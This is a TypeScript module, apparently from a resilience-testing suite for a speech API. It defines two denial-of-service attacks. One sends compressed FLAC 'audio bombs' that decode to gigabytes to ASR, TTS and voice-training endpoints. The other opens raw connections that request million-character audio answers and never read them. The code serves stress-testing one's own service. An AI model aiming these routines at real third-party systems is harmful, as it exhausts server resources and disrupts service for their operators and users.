import { encode } from "@msgpack/msgpack";
import { flacBomb } from "#audio/testing/audio-bombs";
import type { Attack } from "../attack.js";
import { ask, authorized, openRaw, repeatedly } from "../connection.js";

/** A few kilobytes of audio that decode to gigabytes. */
export const audioBombs: Attack = {
  name: "sends audio that decodes to far more than it is",
  needsKey: true,
  async run(target, signal) {
    const bomb = flacBomb({ frames: 500, channels: 8, sampleRate: 48_000 });
    const headers = authorized(target);
    const form = (fields: [name: string, value: string | Blob][]): FormData => {
      const data = new FormData();
      for (const [name, value] of fields) data.append(name, value);
      return data;
    };
    const file = new Blob([Uint8Array.from(bomb)]);
    const bodies: [path: string, init: RequestInit][] = [
      ["/v1/asr", { headers, body: form([["audio", file]]) }],
      [
        "/model",
        {
          headers,
          body: form([
            ["type", "tts"],
            ["train_mode", "fast"],
            ["title", "a"],
            ["voices", file],
          ]),
        },
      ],
      [
        "/v1/tts",
        {
          headers: { ...headers, "content-type": "application/msgpack" },
          body: Uint8Array.from(encode({ text: "Hello.", references: [{ audio: bomb, text: "" }] })),
        },
      ],
    ];
    await repeatedly(3, signal, async (lane) => {
      const [path, init] = bodies[lane] ?? ["/", {}];
      await ask(target, path, { method: "POST", ...init }, signal);
    });
  },
};

/** A request for one object that holds a lot of audio; `characters` of text. */
export function longAnswer(apiKey: string, characters: number): string {
  const text = "And then it went on as it had gone on before. ".repeat(Math.ceil(characters / 46)).slice(0, characters);
  const body = JSON.stringify({
    model: "service/s1",
    modalities: ["text", "audio"],
    audio: { format: "wav" },
    messages: [{ role: "user", content: text }],
  });
  return [
    "POST /compat/v1/chat/completions HTTP/1.1",
    "Host: a",
    `Authorization: Bearer ${apiKey}`,
    "Content-Type: application/json",
    `Content-Length: ${body.length}`,
    "",
    body,
  ].join("\r\n");
}

/** An answer that is one object is held until it is complete, and until the client has taken it. */
export const longAnswers: Attack = {
  name: "asks for long answers in one object and never reads them",
  needsKey: true,
  async run(target, signal) {
    await repeatedly(6, signal, async (lane) => {
      const connection = openRaw(target, signal, true);
      await connection.send(longAnswer(target.apiKey, lane === 0 ? 1_000_000 : 19_000));
      await connection.closed;
    });
  },
};
